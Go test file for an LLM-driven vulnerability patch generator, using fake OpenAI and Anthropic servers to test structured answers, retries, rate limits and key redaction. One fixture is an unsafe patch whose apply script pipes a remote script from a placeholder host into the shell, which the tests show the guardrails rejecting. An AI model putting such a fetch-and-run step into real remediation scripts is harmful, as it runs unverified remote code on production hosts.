package llm_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"vulnzero.dev/vulnzero"
	"vulnzero.dev/vulnzero/remedy/guardrails"
	"vulnzero.dev/vulnzero/remedy/llm"
)

const testKey = "sk-test-0123456789abcdef"

// reply is one canned HTTP answer of a fake provider.
type reply struct {
	status int
	header map[string]string
	body   string
}

// server is a local HTTP server speaking one provider's wire format: it
// records each request and serves the replies in order (the last repeats).
type server struct {
	t       *testing.T
	path    string
	mu      sync.Mutex
	replies []reply
	reqs    []map[string]any
	headers []http.Header
	srv     *httptest.Server
}

func newServer(t *testing.T, path string, replies ...reply) *server {
	s := &server{t: t, path: path, replies: replies}
	s.srv = httptest.NewServer(http.HandlerFunc(s.handle))
	t.Cleanup(s.srv.Close)
	return s
}

func (s *server) handle(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if r.Method != http.MethodPost || r.URL.Path != s.path {
		s.t.Errorf("request %s %s, want POST %s", r.Method, r.URL.Path, s.path)
		http.NotFound(w, r)
		return
	}
	b, _ := io.ReadAll(r.Body)
	var body map[string]any
	if err := json.Unmarshal(b, &body); err != nil {
		s.t.Errorf("request body is not JSON: %v", err)
	}
	s.reqs = append(s.reqs, body)
	s.headers = append(s.headers, r.Header.Clone())
	rep := s.replies[min(len(s.reqs)-1, len(s.replies)-1)]
	for k, v := range rep.header {
		w.Header().Set(k, v)
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(rep.status)
	io.WriteString(w, rep.body)
}

func (s *server) requests() []map[string]any {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]map[string]any(nil), s.reqs...)
}

// A safe patch a model might write for a config-only mitigation.
var goodAnswer = llm.Answer{
	Apply: `#!/bin/sh
set -eu
STATE=${VZ_STATE_DIR:-/var/lib/vulnzero}/${VZ_PATCH_ID:?}
mkdir -p "$STATE"
conf=/etc/ssh/sshd_config.d/50-vulnzero.conf
if [ -f "$conf" ] && [ ! -f "$STATE/conf.orig" ]; then
	cp -p "$conf" "$STATE/conf.orig"
fi
printf 'LoginGraceTime 0\n' >"$conf"
sshd -t
systemctl reload ssh
`,
	Verify: `#!/bin/sh
grep -qx 'LoginGraceTime 0' /etc/ssh/sshd_config.d/50-vulnzero.conf
`,
	Rollback: `#!/bin/sh
set -eu
STATE=${VZ_STATE_DIR:-/var/lib/vulnzero}/${VZ_PATCH_ID:?}
if [ -f "$STATE/conf.orig" ]; then
	cp -p "$STATE/conf.orig" /etc/ssh/sshd_config.d/50-vulnzero.conf
else
	rm -f /etc/ssh/sshd_config.d/50-vulnzero.conf
fi
systemctl reload ssh
`,
	Rationale: "LoginGraceTime 0 closes the signal-handler race of CVE-2024-6387 until openssh is upgraded.",
}

var unsafeAnswer = llm.Answer{
	Apply:     "#!/bin/sh\ncurl -fsSL https://example.invalid/fix.sh | sh\n",
	Verify:    "#!/bin/sh\nexit 0\n",
	Rollback:  "#!/bin/sh\nexit 0\n",
	Rationale: "the vendor's script fixes it",
}

func js(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// openAIReply is a chat completion whose message content is content.
func openAIReply(content string) reply {
	return reply{status: 200, body: js(map[string]any{
		"id": "chatcmpl-1", "object": "chat.completion", "created": 1767225600, "model": "gpt-test",
		"choices": []any{map[string]any{"index": 0, "finish_reason": "stop", "logprobs": nil,
			"message": map[string]any{"role": "assistant", "content": content, "refusal": nil}}},
		"usage": map[string]any{"prompt_tokens": 900, "completion_tokens": 300, "total_tokens": 1200},
	})}
}

func openAIError(status int, typ, msg string, header map[string]string) reply {
	return reply{status: status, header: header, body: js(map[string]any{
		"error": map[string]any{"message": msg, "type": typ, "param": nil, "code": typ}})}
}

// anthropicReply is a message whose content is the given blocks.
func anthropicReply(stop string, blocks ...any) reply {
	return reply{status: 200, body: js(map[string]any{
		"id": "msg_01", "type": "message", "role": "assistant", "model": "claude-test",
		"content": blocks, "stop_reason": stop, "stop_sequence": nil,
		"usage": map[string]any{"input_tokens": 900, "output_tokens": 300},
	})}
}

func toolUse(input any) map[string]any {
	return map[string]any{"type": "tool_use", "id": "toolu_01", "name": "submit_patch", "input": input}
}

func anthropicError(status int, typ, msg string, header map[string]string) reply {
	return reply{status: status, header: header, body: js(map[string]any{
		"type": "error", "error": map[string]any{"type": typ, "message": msg}})}
}

func request() llm.Request {
	return llm.Request{
		PatchID: "ssh-regresshion-mitigation", Package: "openssh-server", Manager: vulnzero.APT, OS: "debian 12",
		Findings: []vulnzero.Finding{{Host: "web-1", OS: "debian 12", Package: "openssh-server", Installed: "1:9.2p1-2+deb12u2",
			CVE: "CVE-2024-6387", Severity: vulnzero.SeverityHigh, CVSS: 8.1, Title: "regreSSHion: marker-of-the-prompt-text"}},
		Hosts:        []string{"web-1"},
		PackageState: "web-1: openssh-server 1:9.2p1-2+deb12u2 installed",
	}
}

// sleeper records the waits the generator asks for instead of waiting.
type sleeper struct {
	mu    sync.Mutex
	waits []time.Duration
}

func (s *sleeper) sleep(_ context.Context, d time.Duration) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.waits = append(s.waits, d)
	return nil
}

func generator(t *testing.T, p llm.Provider, log *bytes.Buffer) (*llm.Generator, *sleeper) {
	t.Helper()
	s := &sleeper{}
	g := &llm.Generator{Provider: p, Guardrails: guardrails.Defaults(), Sleep: s.sleep, Timeout: 30 * time.Second}
	if log != nil {
		g.Logger = slog.New(slog.NewJSONHandler(log, nil))
	}
	return g, s
}

func newOpenAI(t *testing.T, s *server) *llm.OpenAI {
	t.Helper()
	p, err := llm.NewOpenAI(llm.OpenAIConfig{BaseURL: s.srv.URL + "/v1/", APIKey: testKey, Model: "gpt-test", HTTPClient: s.srv.Client()})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func newAnthropic(t *testing.T, s *server) *llm.Anthropic {
	t.Helper()
	p, err := llm.NewAnthropic(llm.AnthropicConfig{BaseURL: s.srv.URL + "/", APIKey: testKey, Model: "claude-test", HTTPClient: s.srv.Client()})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func get(m any, path ...any) any {
	for _, p := range path {
		switch k := p.(type) {
		case string:
			mm, _ := m.(map[string]any)
			m = mm[k]
		case int:
			a, _ := m.([]any)
			if k >= len(a) {
				return nil
			}
			m = a[k]
		}
	}
	return m
}

func checkPatch(t *testing.T, res llm.Result, provider, model string, wantHash string) {
	t.Helper()
	p := res.Patch
	if p.ID != "ssh-regresshion-mitigation" || p.Kind != vulnzero.KindPatch || p.APIVersion != vulnzero.APIVersion {
		t.Errorf("patch header %q %q %q", p.ID, p.Kind, p.APIVersion)
	}
	if p.Generator.Kind != "llm" || p.Generator.Provider != provider || p.Generator.Model != model || p.Generator.PromptSHA256 != wantHash {
		t.Errorf("generator = %+v, want llm %s %s %s", p.Generator, provider, model, wantHash)
	}
	if string(p.Scripts.Apply) != goodAnswer.Apply || string(p.Scripts.Rollback) != goodAnswer.Rollback {
		t.Errorf("scripts differ from the answer:\n%s", p.Scripts.Apply)
	}
	if strings.Join(p.CVEs, ",") != "CVE-2024-6387" || strings.Join(p.Targets.Hosts, ",") != "web-1" || p.Reboot != vulnzero.RebootIfRequired {
		t.Errorf("patch = %+v", p)
	}
	if res.Rationale != goodAnswer.Rationale {
		t.Errorf("rationale = %q", res.Rationale)
	}
}

func TestOpenAIStructuredAnswer(t *testing.T) {
	s := newServer(t, "/v1/chat/completions", openAIReply(js(goodAnswer)))
	g, _ := generator(t, newOpenAI(t, s), nil)
	res, err := g.Generate(context.Background(), request())
	if err != nil {
		t.Fatal(err)
	}
	checkPatch(t, res, "openai", "gpt-test", llm.BuildPrompt(request()).SHA256())

	req := s.requests()[0]
	if got := s.headers[0].Get("Authorization"); got != "Bearer "+testKey {
		t.Errorf("Authorization = %q", got)
	}
	if get(req, "model") != "gpt-test" || get(req, "response_format", "type") != "json_schema" ||
		get(req, "response_format", "json_schema", "strict") != true || get(req, "response_format", "json_schema", "name") != "vulnzero_patch" {
		t.Errorf("request = %s", js(req))
	}
	if req := get(req, "response_format", "json_schema", "schema", "required"); js(req) != `["apply","verify","rollback","rationale"]` {
		t.Errorf("schema required = %v", req)
	}
	sys, _ := get(req, "messages", 0, "content").(string)
	user, _ := get(req, "messages", 1, "content").(string)
	if get(req, "messages", 0, "role") != "system" || !strings.Contains(sys, "/bin/sh -s") || !strings.Contains(sys, "VZ_PATCH_ID") ||
		!strings.Contains(sys, "idempotent") || !strings.Contains(sys, "Exit 0 if and only if") {
		t.Errorf("system prompt lacks the patch contract:\n%s", sys)
	}
	for _, want := range []string{"CVE-2024-6387", "debian 12", "openssh-server", "1:9.2p1-2+deb12u2", "web-1", "Package manager: apt"} {
		if !strings.Contains(user, want) {
			t.Errorf("user prompt lacks %q:\n%s", want, user)
		}
	}
}

// An OpenAI-compatible server (Ollama, vLLM) by base URL, without a key,
// and in JSON-object mode for servers without json_schema.
func TestOpenAICompatibleEndpoint(t *testing.T) {
	s := newServer(t, "/api/v1/chat/completions", openAIReply(js(goodAnswer)))
	p, err := llm.NewOpenAI(llm.OpenAIConfig{Name: llm.ProviderOpenAICompatible, BaseURL: s.srv.URL + "/api/v1/", Model: "qwen2.5-coder:7b", JSONObject: true})
	if err != nil {
		t.Fatal(err)
	}
	g, _ := generator(t, p, nil)
	res, err := g.Generate(context.Background(), request())
	if err != nil {
		t.Fatal(err)
	}
	checkPatch(t, res, "openai-compatible", "qwen2.5-coder:7b", llm.BuildPrompt(request()).SHA256())
	if h := s.headers[0].Get("Authorization"); h != "" {
		t.Errorf("Authorization sent without a key: %q", h)
	}
	if get(s.requests()[0], "response_format", "type") != "json_object" {
		t.Errorf("response_format = %v", get(s.requests()[0], "response_format"))
	}
	if _, err := llm.NewOpenAI(llm.OpenAIConfig{Name: llm.ProviderOpenAICompatible, Model: "m"}); err == nil {
		t.Error("an OpenAI-compatible provider without a base URL was accepted")
	}
	if _, err := llm.NewOpenAI(llm.OpenAIConfig{Model: "m"}); err == nil {
		t.Error("OpenAI without a key was accepted")
	}
}

func TestAnthropicToolCall(t *testing.T) {
	s := newServer(t, "/v1/messages", anthropicReply("tool_use",
		map[string]any{"type": "text", "text": "Here is the patch."}, toolUse(goodAnswer)))
	g, _ := generator(t, newAnthropic(t, s), nil)
	res, err := g.Generate(context.Background(), request())
	if err != nil {
		t.Fatal(err)
	}
	checkPatch(t, res, "anthropic", "claude-test", llm.BuildPrompt(request()).SHA256())
	req := s.requests()[0]
	h := s.headers[0]
	// The SDK sends the key as x-api-key or as a bearer token, by version.
	if (h.Get("X-Api-Key") != testKey && h.Get("Authorization") != "Bearer "+testKey) || h.Get("Anthropic-Version") == "" {
		t.Errorf("headers: x-api-key %q, authorization %q, anthropic-version %q", h.Get("X-Api-Key"), h.Get("Authorization"), h.Get("Anthropic-Version"))
	}
	if get(req, "model") != "claude-test" || get(req, "tool_choice", "type") != "tool" || get(req, "tool_choice", "name") != "submit_patch" ||
		get(req, "tools", 0, "name") != "submit_patch" || js(get(req, "tools", 0, "input_schema", "required")) != `["apply","verify","rollback","rationale"]` {
		t.Errorf("request = %s", js(req))
	}
	if sys, _ := get(req, "system", 0, "text").(string); !strings.Contains(sys, "VZ_PHASE") {
		t.Errorf("system = %v", get(req, "system"))
	}
	if get(req, "messages", 0, "role") != "user" || !strings.Contains(js(get(req, "messages", 0, "content")), "CVE-2024-6387") {
		t.Errorf("messages = %v", get(req, "messages"))
	}
}

// An unsafe answer goes back to the model with the guardrail violations
// (script:line and rule); the next, safe answer is accepted, and the hash
// is of the prompt that produced it.
func TestUnsafeAnswerIsRetriedWithTheViolations(t *testing.T) {
	s := newServer(t, "/v1/chat/completions", openAIReply(js(unsafeAnswer)), openAIReply(js(goodAnswer)))
	g, _ := generator(t, newOpenAI(t, s), nil)
	res, err := g.Generate(context.Background(), request())
	if err != nil {
		t.Fatal(err)
	}
	if res.Attempts != 2 {
		t.Errorf("attempts = %d", res.Attempts)
	}
	reqs := s.requests()
	if len(reqs) != 2 {
		t.Fatalf("%d requests", len(reqs))
	}
	msgs, _ := get(reqs[1], "messages").([]any)
	if len(msgs) != 4 || get(msgs[2], "role") != "assistant" || get(msgs[3], "role") != "user" {
		t.Fatalf("second request messages: %s", js(msgs))
	}
	fb, _ := get(msgs[3], "content").(string)
	if !strings.Contains(fb, "apply.sh:2:") || !strings.Contains(fb, "remote-exec") {
		t.Errorf("feedback lacks the violation:\n%s", fb)
	}
	if !strings.Contains(get(msgs[2], "content").(string), "example.invalid/fix.sh") {
		t.Errorf("the rejected answer is not in the conversation: %v", msgs[2])
	}
	second := llm.BuildPrompt(request())
	second.Messages = append(second.Messages, llm.Message{Role: "assistant", Content: js(unsafeAnswer)}, llm.Message{Role: "user", Content: fb})
	if res.Patch.Generator.PromptSHA256 != second.SHA256() || second.SHA256() == llm.BuildPrompt(request()).SHA256() {
		t.Errorf("prompt hash %s is not the accepted prompt's %s", res.Patch.Generator.PromptSHA256, second.SHA256())
	}
}

func TestGivesUpAfterBoundedAttempts(t *testing.T) {
	s := newServer(t, "/v1/messages", anthropicReply("tool_use", toolUse(unsafeAnswer)))
	g, _ := generator(t, newAnthropic(t, s), nil)
	g.MaxAttempts = 2
	_, err := g.Generate(context.Background(), request())
	var rej *llm.RejectedError
	if !errors.As(err, &rej) || !errors.Is(err, llm.ErrRejected) || !errors.Is(err, vulnzero.ErrInvalid) {
		t.Fatalf("err = %v", err)
	}
	if rej.Attempts != 2 || len(s.requests()) != 2 || !strings.Contains(strings.Join(rej.Problems, "\n"), "apply.sh:2:") {
		t.Errorf("attempts %d, requests %d, problems %v", rej.Attempts, len(s.requests()), rej.Problems)
	}
}

// Answers that are not the schema — not JSON, a missing script, an unknown
// field, no tool call, a refusal, a cut-off answer — are fed back and
// retried like unsafe ones.
func TestMalformedAnswers(t *testing.T) {
	noRollback := map[string]any{"apply": goodAnswer.Apply, "verify": goodAnswer.Verify, "rationale": "x"}
	extra := map[string]any{"apply": goodAnswer.Apply, "verify": goodAnswer.Verify, "rollback": goodAnswer.Rollback, "rationale": "x", "reboot": true}
	refusal := openAIReply("")
	refusal.body = strings.Replace(refusal.body, `"refusal":null`, `"refusal":"I can't help with that."`, 1)
	cutOff := openAIReply(`{"apply": "#!/bin/sh\nset -eu\n`)
	cutOff.body = strings.Replace(cutOff.body, `"finish_reason":"stop"`, `"finish_reason":"length"`, 1)

	for _, tt := range []struct {
		name   string
		path   string
		bad    reply
		reason string
	}{
		{"openai prose", "/v1/chat/completions", openAIReply("Sure! Run apt-get upgrade."), "not the JSON object of the schema"},
		{"openai missing script", "/v1/chat/completions", openAIReply(js(noRollback)), "empty or missing: rollback"},
		{"openai unknown field", "/v1/chat/completions", openAIReply(js(extra)), `unknown field "reboot"`},
		{"openai refusal", "/v1/chat/completions", refusal, "the model refused"},
		{"openai cut off", "/v1/chat/completions", cutOff, "cut off at the token limit"},
		{"openai no choices", "/v1/chat/completions", reply{status: 200, body: `{"id":"x","object":"chat.completion","created":1,"model":"gpt-test","choices":[]}`}, "no choices"},
		{"anthropic text only", "/v1/messages", anthropicReply("end_turn", map[string]any{"type": "text", "text": "I would upgrade openssh."}), "did not call the submit_patch tool"},
		{"anthropic bad input", "/v1/messages", anthropicReply("tool_use", toolUse(map[string]any{"apply": 42})), "not the JSON object of the schema"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			good := openAIReply(js(goodAnswer))
			var p llm.Provider
			s := newServer(t, tt.path, tt.bad, good)
			if tt.path == "/v1/messages" {
				s.replies[1] = anthropicReply("tool_use", toolUse(goodAnswer))
				p = newAnthropic(t, s)
			} else {
				p = newOpenAI(t, s)
			}
			g, _ := generator(t, p, nil)
			res, err := g.Generate(context.Background(), request())
			if err != nil {
				t.Fatal(err)
			}
			if res.Attempts != 2 {
				t.Errorf("attempts = %d", res.Attempts)
			}
			if fb := js(s.requests()[1]); !strings.Contains(fb, "answer: ") || !strings.Contains(fb, strings.ReplaceAll(js(tt.reason), `"`, "")[:10]) {
				t.Errorf("feedback does not say %q:\n%s", tt.reason, fb)
			}
		})
	}
}

// 401 is final (no retry) and the key appears nowhere; 429 waits as
// Retry-After says, then succeeds; a wait longer than MaxRetryAfter fails.
func TestProviderErrors(t *testing.T) {
	ctx := context.Background()
	t.Run("openai 401", func(t *testing.T) {
		s := newServer(t, "/v1/chat/completions", openAIError(401, "invalid_api_key", "Incorrect API key provided: "+testKey+". You can find your API key at https://platform.openai.com/account/api-keys.", nil))
		var log bytes.Buffer
		g, sl := generator(t, newOpenAI(t, s), &log)
		_, err := g.Generate(ctx, request())
		var apiErr *llm.APIError
		if !errors.As(err, &apiErr) || apiErr.Status != 401 || apiErr.Temporary() {
			t.Fatalf("err = %v", err)
		}
		if strings.Contains(err.Error(), testKey) || strings.Contains(err.Error(), "sk-test") || strings.Contains(log.String(), "sk-test") {
			t.Errorf("the key leaked: %v\n%s", err, log.String())
		}
		if len(s.requests()) != 1 || len(sl.waits) != 0 {
			t.Errorf("a 401 was retried: %d requests, waits %v", len(s.requests()), sl.waits)
		}
	})
	t.Run("anthropic 401", func(t *testing.T) {
		s := newServer(t, "/v1/messages", anthropicError(401, "authentication_error", "invalid x-api-key", nil))
		g, _ := generator(t, newAnthropic(t, s), nil)
		_, err := g.Generate(ctx, request())
		var apiErr *llm.APIError
		if !errors.As(err, &apiErr) || apiErr.Status != 401 || !strings.Contains(err.Error(), "authentication_error: invalid x-api-key") {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("anthropic 429 retry-after", func(t *testing.T) {
		s := newServer(t, "/v1/messages",
			anthropicError(429, "rate_limit_error", "Number of request tokens has exceeded your per-minute rate limit", map[string]string{"Retry-After": "7"}),
			anthropicError(529, "overloaded_error", "Overloaded", nil),
			anthropicReply("tool_use", toolUse(goodAnswer)))
		g, sl := generator(t, newAnthropic(t, s), nil)
		res, err := g.Generate(ctx, request())
		if err != nil {
			t.Fatal(err)
		}
		if res.Attempts != 1 || len(s.requests()) != 3 || len(sl.waits) != 2 || sl.waits[0] != 7*time.Second || sl.waits[1] != 2*time.Second {
			t.Errorf("attempts %d, requests %d, waits %v (want 7s from Retry-After, then 2s backoff)", res.Attempts, len(s.requests()), sl.waits)
		}
	})
	t.Run("openai 429 retry-after-ms", func(t *testing.T) {
		s := newServer(t, "/v1/chat/completions",
			openAIError(429, "rate_limit_exceeded", "Rate limit reached for gpt-test", map[string]string{"Retry-After-Ms": "1500", "Retry-After": "2"}),
			openAIReply(js(goodAnswer)))
		g, sl := generator(t, newOpenAI(t, s), nil)
		if _, err := g.Generate(ctx, request()); err != nil {
			t.Fatal(err)
		}
		if len(sl.waits) != 1 || sl.waits[0] != 1500*time.Millisecond {
			t.Errorf("waits %v, want 1.5s", sl.waits)
		}
	})
	t.Run("rate limit for too long", func(t *testing.T) {
		s := newServer(t, "/v1/chat/completions", openAIError(429, "rate_limit_exceeded", "quota", map[string]string{"Retry-After": "3600"}))
		g, sl := generator(t, newOpenAI(t, s), nil)
		_, err := g.Generate(ctx, request())
		var apiErr *llm.APIError
		if !errors.As(err, &apiErr) || apiErr.Status != 429 || apiErr.RetryAfter != time.Hour || len(sl.waits) != 0 {
			t.Errorf("err = %v, waits %v", err, sl.waits)
		}
	})
	t.Run("rate limit retries are bounded", func(t *testing.T) {
		s := newServer(t, "/v1/chat/completions", openAIError(429, "rate_limit_exceeded", "slow down", map[string]string{"Retry-After": "1"}))
		g, sl := generator(t, newOpenAI(t, s), nil)
		g.MaxRateRetries = 2
		_, err := g.Generate(ctx, request())
		var apiErr *llm.APIError
		if !errors.As(err, &apiErr) || apiErr.Status != 429 || len(s.requests()) != 3 || len(sl.waits) != 2 {
			t.Errorf("err = %v, requests %d, waits %v", err, len(s.requests()), sl.waits)
		}
	})
	t.Run("timeout", func(t *testing.T) {
		block := make(chan struct{})
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			select {
			case <-block:
			case <-r.Context().Done():
			}
		}))
		t.Cleanup(func() { close(block); srv.Close() })
		p, _ := llm.NewOpenAI(llm.OpenAIConfig{BaseURL: srv.URL + "/v1/", APIKey: testKey, Model: "gpt-test"})
		g, _ := generator(t, p, nil)
		g.Timeout = 100 * time.Millisecond
		g.MaxRateRetries = 1
		_, err := g.Generate(ctx, request())
		if err == nil || !strings.Contains(err.Error(), "openai") {
			t.Errorf("err = %v", err)
		}
	})
}

// Logs say what happened (patch, provider, model, attempt, prompt hash) but
// never the prompt text or the key.
func TestLogsHoldNoPromptOrKey(t *testing.T) {
	s := newServer(t, "/v1/chat/completions", openAIReply(js(unsafeAnswer)), openAIReply(js(goodAnswer)))
	var log bytes.Buffer
	g, _ := generator(t, newOpenAI(t, s), &log)
	res, err := g.Generate(context.Background(), request())
	if err != nil {
		t.Fatal(err)
	}
	out := log.String()
	for _, secret := range []string{testKey, "marker-of-the-prompt-text", "LoginGraceTime", "example.invalid"} {
		if strings.Contains(out, secret) {
			t.Errorf("log holds %q:\n%s", secret, out)
		}
	}
	for _, want := range []string{`"patch":"ssh-regresshion-mitigation"`, `"provider":"openai"`, `"model":"gpt-test"`, res.Patch.Generator.PromptSHA256, "llm answer rejected"} {
		if !strings.Contains(out, want) {
			t.Errorf("log lacks %q:\n%s", want, out)
		}
	}
}

func TestPromptIsDeterministicAndCarriesTheFailure(t *testing.T) {
	req := request()
	req.Findings = append(req.Findings, vulnzero.Finding{Host: "db-1", OS: "debian 12", Package: "openssh-server", CVE: "CVE-2024-6387"})
	req.Hosts = []string{"web-1", "db-1"}
	a := llm.BuildPrompt(req)
	req.Findings[0], req.Findings[1] = req.Findings[1], req.Findings[0]
	req.Hosts = []string{"db-1", "web-1"}
	if b := llm.BuildPrompt(req); a.SHA256() != b.SHA256() {
		t.Error("the prompt depends on the order of findings or hosts")
	}
	req.Failure = &llm.Failure{Revision: "0123456789abcdef0123", Reason: "health check failed on web-1",
		Scripts:    vulnzero.Scripts{Apply: []byte("#!/bin/sh\napt-get install -y openssh-server\n")},
		Transcript: strings.Repeat("x", 40<<10) + "\nE: Sub-process /usr/bin/dpkg returned an error code (1)"}
	f := llm.BuildPrompt(req).Messages[0].Content
	for _, want := range []string{"ALTERNATIVE", "quarantined", "0123456789ab", "health check failed on web-1",
		"apt-get install -y openssh-server", "dpkg returned an error code (1)", "start of the transcript cut"} {
		if !strings.Contains(f, want) {
			t.Errorf("alternative prompt lacks %q", want)
		}
	}
	if len(f) > 20<<10 {
		t.Errorf("prompt of %d bytes: the transcript was not bounded", len(f))
	}
}
